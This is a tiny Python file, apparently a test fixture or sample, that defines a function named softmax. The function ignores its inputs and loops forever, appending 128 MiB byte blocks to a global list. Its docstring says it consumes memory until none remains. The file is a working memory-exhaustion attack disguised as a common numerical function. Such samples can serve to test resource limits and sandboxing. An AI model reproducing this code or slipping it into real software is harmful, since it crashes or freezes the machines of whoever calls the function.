"""Takes memory until there is none, keeps it, and goes on asking."""

hoard = []


def softmax(x, axis=-1):
    while True:
        hoard.append(bytes(128 * 2**20))
